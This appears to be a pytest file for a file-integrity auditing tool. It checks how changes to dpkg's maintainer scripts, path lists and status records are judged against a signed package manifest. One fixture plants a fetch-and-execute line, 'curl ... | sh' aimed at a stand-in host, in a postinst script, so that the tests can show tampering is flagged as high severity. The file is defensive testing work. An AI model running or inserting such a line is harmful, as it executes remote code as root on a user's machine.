"""What is said of dpkg's own files: each text is a change of one, what the signed package has, and what must be said."""

from dataclasses import replace

import pytest
from blake3 import blake3

from auditkit.derived import Known, records
from auditkit.explain import Account, Claim
from auditkit.model import Change, ChangeKind, Entry, Kind, Level, Severity
from auditkit.packages import Manifest, Package, Shipped

KEY, OLD, NEW = "demo:amd64", "1", "2"
POSTINST = "#!/bin/sh\nldconfig\n"
CONFIG = "#!/bin/sh\n. /usr/share/debconf/confmodule\n"
SCRIPTS = f"# preinst\n#!/bin/sh\nset -e\n\n# postinst\n{POSTINST}\n# config\n{CONFIG}\n"
PLANTED = POSTINST + "curl -s http://192.0.2.1/x | sh\n"
LIST = "/.\n/usr\n/usr/bin\n/usr/bin/demo\n/etc/demo.conf\n"
PATHS = ("/usr", "/usr/bin", "/usr/bin/demo")
FILES = (*(Shipped(path, None) for path in PATHS), Shipped("/etc/demo.conf", Kind.FILE, config=True))


def account(proof: str = "signed", now: str = NEW) -> Account:
    manifest = Manifest(Package("dpkg", "demo", now, "amd64"), FILES, proof, "InRelease", SCRIPTS)
    return Account({KEY: OLD}, {KEY: now}, now={"/usr/bin/demo": (Claim(manifest, FILES[2]),)})


def told(name: str, text: str, known: Account, was: str | None = "other\n") -> tuple[str, Severity, str, str | None]:
    """Rule, severity, note and proof of a change of this file of dpkg, whose level and severity are those of a policy."""
    path = f"/var/lib/dpkg/{name}"

    def entry(held: str) -> Entry:
        digest = f"blake3:{blake3(held.encode()).hexdigest()}"
        return Entry(
            path, Kind.FILE, 0o755, 0, 0, "root", "root", len(held), 1, 1, 1, 7, 1, digests=(digest,), flags="", xattrs=()
        )

    same = was == text
    attributes = ("mtime", "ctime") if same else ("digest", "mtime")
    change = Change(
        path,
        ChangeKind.CHANGED if was is not None else ChangeKind.ADDED,
        None if was is None else entry(was),
        entry(text),
        () if was is None else attributes,
        Severity.MEDIUM,
        Level.CONTENT,
        "content-changed",
    )
    host = Known({path: change}, known, files={path: text.encode()})
    records.judge(host)
    after = host.changes[path]
    proof = after.explanation.proof if after.explanation else None
    return after.rule, after.severity, after.note, proof


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("info/demo.postinst", POSTINST),
        ("info/demo.preinst", "#!/bin/sh\nset -e\n"),
        ("info/demo.config", CONFIG),
        ("info/demo:amd64.postinst", POSTINST),
        ("info/demo.list", LIST),
        ("info/demo.conffiles", "/etc/demo.conf\n"),
    ],
)
def test_what_the_signed_package_has_is_proved(name: str, text: str) -> None:
    assert told(name, text, account())[3] == "signed"


@pytest.mark.parametrize("text", [PLANTED, "", POSTINST[:-1], SCRIPTS, "#!/bin/sh\n"])
def test_a_script_that_is_not_that_of_the_signed_package_is_worse(text: str) -> None:
    """It runs as root at the next upgrade."""
    assert told("info/demo.postinst", text, account()) == (records.SCRIPT.id, Severity.HIGH, records.SCRIPT.title, None)


@pytest.mark.parametrize("known", [account(now=OLD), account("local", now=OLD), replace(account(), before={}, installed={})])
@pytest.mark.parametrize("was", ["other\n", None])
def test_a_script_that_changed_or_came_without_an_upgrade_is_worse(known: Account, was: str | None) -> None:
    rule, severity, _note, proof = told("info/demo.postinst", PLANTED, known, was)
    assert (rule, severity, proof) == (records.SCRIPT.id, Severity.HIGH, None)


def test_a_script_of_an_upgrade_that_no_vendor_vouches_for_is_left_as_it_is_and_says_what_it_does() -> None:
    expected = ("content-changed", Severity.MEDIUM, records.UNPROVED, None)
    assert told("info/demo.postinst", PLANTED, account("local")) == expected


def test_a_script_of_no_package_is_worse_though_others_were_upgraded() -> None:
    assert told("info/planted.prerm", PLANTED, account(), None)[:2] == (records.SCRIPT.id, Severity.HIGH)


def test_a_list_of_paths_that_is_not_that_of_the_signed_package_is_only_a_record() -> None:
    assert told("info/demo.list", LIST + "/tmp/x\n", account()) == (records.RECORD.id, Severity.LOW, "", None)


def test_what_was_written_again_with_what_it_held_is_explained_where_its_package_changed() -> None:
    assert told("info/demo.prerm", PLANTED, account("local"), PLANTED)[3] == "local"
    assert told("info/other.prerm", PLANTED, account("local"), PLANTED)[3] is None


@pytest.mark.parametrize("name", ["status", "status-old", "triggers/File", "info/demo.md5sums", "info/demo.shlibs"])
def test_records_are_called_so_where_packages_changed_and_nowhere_else(name: str) -> None:
    assert told(name, "x", account())[:2] == (records.RECORD.id, Severity.LOW)
    assert told(name, "x", account(now=OLD))[:2] == ("content-changed", Severity.MEDIUM)


@pytest.mark.parametrize("name", ["diversions", "statoverride", "alternatives/vi", "info/../x", "info/format"])
def test_what_may_hide_a_change_is_no_record(name: str) -> None:
    assert told(name, "x", account())[:2] == ("content-changed", Severity.MEDIUM)
